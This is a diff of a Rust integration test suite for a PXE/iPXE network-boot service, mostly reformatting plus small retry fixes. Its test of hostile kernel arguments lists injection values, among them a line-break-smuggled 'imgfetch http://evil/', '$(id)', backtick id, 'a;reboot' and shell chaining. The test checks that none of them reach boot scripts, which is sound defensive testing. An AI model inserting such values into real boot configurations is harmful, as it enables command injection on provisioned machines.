@@ -11,7 +11,8 @@ use crate::dhcp::*;
 use crate::ground::{Ground, Group, with_files};
 use crate::support::{ClientMachine, SERVER, eventually};
 
-static GROUP: Group = Group::new("pxe", "[boot]\nkernel_arguments = [\"console=ttyS1,115200n8\"]\n", with_files);
+static GROUP: Group =
+    Group::new("pxe", "[boot]\nkernel_arguments = [\"console=ttyS1,115200n8\"]\n", with_files);
 
 fn script_path(mac: MacAddr) -> String {
     format!("http://{SERVER}/boot/{}/script.ipxe", mac.to_string().replace(':', "-"))
@@ -172,6 +173,9 @@ fn p_11_ipxe_never_gets_its_loader_twice_and_a_loop_ends_at_three() {
         for _ in 0..4 {
             let [_, ack] = both(&mut client, |message| rom(message, 0));
             given.push(ack.boot_file());
+            if given.len() > 3 {
+                break;
+            }
             let machine = machine.get_or_insert_with(|| machine_of(ground, client.mac, ack.yiaddr));
             let told = || ground.bed().farrier_json(&["event", "list", &client.mac.to_string()]).to_string();
             let before = told();
@@ -181,8 +185,10 @@ fn p_11_ipxe_never_gets_its_loader_twice_and_a_loop_ends_at_three() {
         let loader = Some("undionly.kpxe".to_owned());
         assert_eq!(given[..3], [loader.clone(), loader.clone(), loader], "a retry is no loop");
         assert_eq!(given[3], None, "the fourth time it goes to its disk");
-        let status = ground.bed().farrier(&["why", &client.mac.to_string()]);
-        assert!(String::from_utf8_lossy(&status.stdout).contains("loop"), "{status:?}");
+        eventually("the verdict names the loop", || {
+            let verdict = ground.bed().farrier(&["why", &client.mac.to_string()]);
+            String::from_utf8_lossy(&verdict.stdout).contains("loop").then_some(())
+        });
         // iPXE, which asks for its script, is no loop.
         let mut client = Client::new(&station, ground.mac());
         for _ in 0..5 {
@@ -270,7 +276,9 @@ fn p_17_what_loaders_look_for_in_vain_is_answered_at_once_and_no_error() {
             socket.set_read_timeout(Some(crate::station::PATIENCE)).expect("a time-out");
             for name in guesses {
                 let began = Instant::now();
-                socket.send_to(&[b"\0\x01", name.as_bytes(), b"\0octet\0"].concat(), (SERVER, 69)).expect("sent");
+                socket
+                    .send_to(&[b"\0\x01", name.as_bytes(), b"\0octet\0"].concat(), (SERVER, 69))
+                    .expect("sent");
                 let mut answer = [0; 100];
                 let length = socket.recv(&mut answer).expect("an answer");
                 assert_eq!(&answer[..length], b"\0\x05\0\x01file not found\0", "{name}");
@@ -293,8 +301,24 @@ fn p_17_what_loaders_look_for_in_vain_is_answered_at_once_and_no_error() {
 fn p_22_hostile_kernel_arguments_never_reach_a_script() {
     use std::io::Write;
     let hostile: Vec<String> = [
-        "a\nshell", "a\r\nimgfetch http://evil/", "${net0/mac}", "a && shell", "a || shell", "\"quoted\"", "'quoted'",
-        "a;reboot", "`id`", "$(id)", "a b", "a\\\nb", "\u{1b}[31m", "a\0b", "{}", "é", "#comment", "",
+        "a\nshell",
+        "a\r\nimgfetch http://evil/",
+        "${net0/mac}",
+        "a && shell",
+        "a || shell",
+        "\"quoted\"",
+        "'quoted'",
+        "a;reboot",
+        "`id`",
+        "$(id)",
+        "a b",
+        "a\\\nb",
+        "\u{1b}[31m",
+        "a\0b",
+        "{}",
+        "é",
+        "#comment",
+        "",
     ]
     .into_iter()
     .map(str::to_owned)
@@ -329,7 +353,8 @@ fn p_22_hostile_kernel_arguments_never_reach_a_script() {
         let (status, script) = get(&machine, &script_path(client.mac));
         let script = String::from_utf8(script).expect("text");
         assert_eq!(status, "200");
-        let kernel: Vec<&str> = script.lines().filter(|line| line.trim_start().starts_with("kernel ")).collect();
+        let kernel: Vec<&str> =
+            script.lines().filter(|line| line.trim_start().starts_with("kernel ")).collect();
         assert_eq!(kernel.len(), 1, "{script}");
         assert!(kernel[0].contains(" console=ttyS1,115200n8 "), "{script}");
         assert!(script.lines().all(|line| line.trim() != "shell"), "{script}");
@@ -362,12 +387,18 @@ fn p_23_the_timeline_says_what_happened_in_order() {
         });
         let text = boot["events"].to_string();
         let mut at = 0;
-        for word in ["discover", "request", "undionly.kpxe", "discover", "script.ipxe", "vmlinuz", "initrd.img"] {
+        for word in
+            ["discover", "request", "undionly.kpxe", "discover", "script.ipxe", "vmlinuz", "initrd.img"]
+        {
             let found = text[at..].find(word).unwrap_or_else(|| panic!("{word} is not next in {boot:#}"));
             at += found + word.len();
         }
-        let times: Vec<&str> =
-            boot["events"].as_array().expect("events").iter().filter_map(|event| event["at"].as_str()).collect();
+        let times: Vec<&str> = boot["events"]
+            .as_array()
+            .expect("events")
+            .iter()
+            .filter_map(|event| event["at"].as_str())
+            .collect();
         assert!(times.len() >= 8 && times.is_sorted(), "{times:?}");
     });
 }
